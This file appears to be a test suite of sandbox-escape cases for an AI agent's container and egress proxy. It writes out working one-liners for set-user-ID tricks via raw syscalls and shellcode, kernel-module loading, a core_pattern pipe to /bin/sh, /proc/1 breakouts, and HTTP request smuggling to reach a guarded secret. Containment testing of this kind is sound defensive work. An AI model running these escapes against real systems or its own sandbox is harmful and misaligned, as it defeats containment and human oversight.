// Rarely used interfaces of the kernel, each by a call of its own, and more forms of what the proxy is asked.
const make = (kind) => (id, sh, outside) => ({ id, class: kind, sh, outside })
const [net, sys, proc] = ['network', 'system-call', 'process'].map(make)
const py = (code) => `python3 -c "${code}"`
const lib = 'import ctypes,os;l=ctypes.CDLL(None,use_errno=True);b=ctypes.create_string_buffer(256)'
const call = (...args) => py(`${lib};raise SystemExit(l.syscall(${args.join(',')})<0)`)
const raw = (text) => `${text} | timeout 20 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'`
const ask = (lines) =>
  `${raw(
    `printf '${lines.join('\\r\\n')}\\r\\n\\r\\n' ${lines
      .join('')
      .split('%s')
      .slice(1)
      .map(() => '"$ORIGIN_PORT"')
      .join(' ')}`,
  )} | grep origin-secret`
/** Sets the set-user-ID bit in a way of its own; looked at from outside. */
const setsUserId = (id, code) => sys(id, `${py(code)}; exit 1`, ({ setUserIds }) => setUserIds.length > 0)
const forms =
  '127.1 127.0.0x1 0x7f000001 017700000001 [::ffff:7f00:1] [0:0:0:0:0:ffff:127.0.0.1] [::ffff:0:127.0.0.1] [64:ff9b::7f00:1] [2002:7f00:1::] [::] 0 ip6-localhost localhost.localdomain LOCALHOST. 127.0.0.1. allowed.test.127.0.0.1.nip.io'

export const interfaceCases = [
  setsUserId('set-user-id-fchmodat2', `${lib};open('u1','w').close();l.syscall(452,-100,b'u1',0o4755,0)`),
  setsUserId(
    'set-user-id-openat2',
    `${lib};import struct;h=struct.pack('QQQ',0o101,0o4755,0);l.syscall(437,-100,b'u2',h,24)`,
  ),
  setsUserId(
    'set-user-id-unnamed',
    `import os;f=os.open('.',os.O_TMPFILE|os.O_WRONLY,0o4755);os.link('/proc/self/fd/%d'%f,'u3',follow_symlinks=True)`,
  ),
  setsUserId('set-user-id-other-numbers', `${lib};open('u4','w').close();l.syscall(0x40000000+90,b'u4',0o4755)`),
  setsUserId(
    'set-user-id-int80',
    `import ctypes,mmap;open('u5','w').close();l=ctypes.CDLL(None);l.mmap.restype=ctypes.c_void_p;p=l.mmap(None,4096,7,0x62,-1,0);ctypes.memmove(p+256,b'u5',3);c=b'\\x53\\xb8\\x0f\\0\\0\\0\\xbb'+(p+256).to_bytes(4,'little')+b'\\xb9\\xed\\x09\\0\\0\\xcd\\x80\\x5b\\xc3';ctypes.memmove(p,c,len(c));ctypes.CFUNCTYPE(ctypes.c_int)(p)()`,
  ),
  setsUserId('set-user-id-folder', `import os;os.mkdir('u6');os.chmod('u6',0o6755)`),
  setsUserId(
    'set-user-id-archive',
    `import tarfile,io;t=tarfile.open('u.tar','w');i=tarfile.TarInfo('u7');i.mode=0o4755;t.addfile(i,io.BytesIO());t.close();os=__import__('os');os.system('tar -xpf u.tar')`,
  ),
  setsUserId(
    'set-user-id-attributes',
    `${lib};open('u8','w').close();l.syscall(469,-100,b'u8',b,24,0);l.syscall(463,-100,b'u8',0,b'security.capability',b,16)`,
  ),
  sys(
    'other-socket-families',
    py(
      `import socket\nfor f in (3,4,5,9,15,20,21,26,27,29,30,31,32,33,35,36,37,38,39,40,41,42,43,44):\n  for t in (1,2,3,5):\n    try: socket.socket(f,t); raise SystemExit(0)\n    except OSError: pass\nraise SystemExit(1)`,
    ),
  ),
  sys('fanotify', call(300, 0x4, 0)),
  sys('fspick', call(433, -100, "b'.claude'", 0)),
  sys('move-mount', call(429, -100, "b'.claude'", -100, "b'.claude'", 0)),
  sys('hang-up', call(153)),
  sys('ports', py(`${lib};raise SystemExit(l.ioperm(0x80,1,1)!=0 and l.iopl(3)!=0)`)),
  sys(
    'adjust-clock',
    py(
      `${lib};import struct;b=ctypes.create_string_buffer(struct.pack('I',1)+bytes(204));raise SystemExit(l.syscall(159,b)<0)`,
    ),
  ),
  sys('load-kernel', call(246, 0, 0, 0, 0)),
  sys('load-kernel-file', call(320, 0, 0, 0, 0, 0)),
  sys('load-module', call(313, 0, "b''", 0)),
  sys('restart', call(169, '0xfee1dead', 672274793, 0, 0)),
  sys('swap', call(167, "b'package.json'", 0)),
  sys('name-table', call(163, "b'package.json'")),
  sys('security-module', call(460, 100, 'b', 0, 0)),
  sys('mount-list', call(457, 'b', 'b', 0, 0)),
  proc('program-of-first', py(`open('/proc/1/exe','r+b')`)),
  proc('folder-of-first', 'cat "/proc/1/cwd/../../outside/secret.txt" || cat "/proc/1/root$OUTSIDE/secret.txt"'),
  proc(
    'namespaces-of-first',
    py(`${lib};raise SystemExit(all(l.setns(os.open('/proc/1/ns/'+n,0),0) for n in ('mnt','net','pid','user')))`),
  ),
  proc('real-time', 'chrt -f 99 true || nice -n -20 true 2>&1 | grep -v annot | grep . || ionice -c1 true'),
  proc(
    'own-limits',
    py(
      `import resource;h=resource.getrlimit(resource.RLIMIT_NPROC)[1];raise SystemExit(h!=-1 and not resource.setrlimit(resource.RLIMIT_NPROC,(-1,-1)) and 0 or 1)`,
    ),
  ),
  proc('terminals-of-outside', 'ls /dev/pts/[0-9]*'),
  proc(
    'threads-by-number',
    py(
      `${lib};raise SystemExit(all(l.syscall(234,p,p,0)<0 for p in range(100,1000) if not os.path.exists('/proc/%d'%p)) and 1)`,
    ),
  ),
  proc(
    'cores-elsewhere',
    'ulimit -c unlimited; echo "|/bin/sh" >/proc/sys/kernel/core_pattern || echo 1 >/proc/sys/fs/suid_dumpable',
  ),
  proc('binary-formats', 'mount -t binfmt_misc none /tmp || ls /proc/sys/fs/binfmt_misc/register'),
  net('proxy-http2', ask(['PRI * HTTP/2.0', '', 'SM', '', 'GET http://127.0.0.1:%s/secret HTTP/1.1', 'Host: a'])),
  net(
    'proxy-http2-upgrade',
    ask([
      'GET http://inside.test:%s/secret HTTP/1.1',
      'Host: inside.test',
      'Connection: Upgrade, HTTP2-Settings',
      'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABkAAQAAP__',
    ]),
  ),
  net(
    'proxy-chunked-trick',
    ask([
      'POST http://allowed.test:%s/ HTTP/1.1',
      'Host: allowed.test',
      'Transfer-Encoding: xchunked',
      'Content-Length: 4',
      '',
      '0',
      '',
      'GET http://127.0.0.1:%s/secret HTTP/1.1',
      'Host: a',
    ]),
  ),
  net(
    'proxy-chunked-space',
    ask([
      'POST http://allowed.test:%s/ HTTP/1.1',
      'Host: allowed.test',
      'Transfer-Encoding : chunked',
      'Content-Length: 6',
      '',
      '0',
      '',
      'GET /secret HTTP/1.1',
      'Host: a',
    ]),
  ),
  net(
    'proxy-bare-newlines',
    `${raw(`printf 'GET http://allowed.test:%s/ HTTP/1.1\\nHost: x\\n\\nGET http://127.0.0.1:%s/secret HTTP/1.1\\nHost: a\\n\\n' "$ORIGIN_PORT" "$ORIGIN_PORT"`)} | grep origin-secret`,
  ),
  net(
    'proxy-connection-names-host',
    ask(['GET http://inside.test:%s/secret HTTP/1.1', 'Host: inside.test', 'Connection: host, close']),
  ),
  net(
    'proxy-second-connect',
    ask([
      'CONNECT public.test:443 HTTP/1.1',
      'Host: a',
      '',
      'CONNECT 127.0.0.1:%s HTTP/1.1',
      'Host: a',
      '',
      'GET /secret HTTP/1.1',
      'Host: a',
    ]),
  ),
  net('proxy-socket-url', ask(['GET http://unix:/run/docker.sock:/secret HTTP/1.1', 'Host: a'])),
  net(
    'proxy-port-overflow',
    ask(['CONNECT allowed.test:99999 HTTP/1.1', 'Host: a', '', 'GET /secret HTTP/1.1', 'Host: a']),
  ),
  net(
    'proxy-more-forms',
    `for h in ${forms}; do ${raw('printf "GET http://$h:%s/secret HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n" "$ORIGIN_PORT"')} | grep origin-secret && exit 0; done; exit 1`,
  ),
  net(
    'proxy-descriptor',
    py(
      `import socket,array,os;s=socket.socket(1);s.connect('/run/ralph/proxy.sock');f=os.open('/',0);s.sendmsg([b'GET http://127.0.0.1:'+os.environ['ORIGIN_PORT'].encode()+b'/secret HTTP/1.1'+bytes([13,10])+b'Host: a'+bytes([13,10,13,10])],[(1,1,array.array('i',[f]))]);raise SystemExit(b'origin-secret' not in s.recv(4096))`,
    ),
  ),
  net(
    'sctp-and-multipath',
    py(
      `import socket,os\nfor p in (132,136,262):\n  try:\n    s=socket.socket(2,1,p); s.settimeout(3); s.connect((chr(49)+'27.0.0.1',int(os.environ['ORIGIN_PORT']))); raise SystemExit(0)\n  except OSError: pass\nraise SystemExit(1)`,
    ),
  ),
  net(
    'leave-by-bind-device',
    py(
      `import socket,os;s=socket.socket();s.setsockopt(1,25,b'eth0'+bytes(1));s.settimeout(3);s.connect((chr(49)+'27.0.0.1',int(os.environ['ORIGIN_PORT'])))`,
    ),
  ),
]
